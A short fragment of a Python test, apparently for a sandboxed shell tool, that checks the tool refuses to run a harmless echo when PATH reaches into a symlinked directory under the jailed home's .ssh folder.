    tools = jail.base / "tools" / "bin"
    tools.mkdir(parents=True)
    monkeypatch.setenv("PATH", f"{tools}:{os.environ['PATH']}")
    _link(jail.home / ".ssh" / "tools", tools.parent)
    result = await run(tool_with(), {"command": "echo fine"}, context(jail.workspace))
    assert not result.success and result.error.startswith("not run"), result.output
    assert f"{jail.home / '.ssh' / 'tools'} → {tools.parent}" in result.error
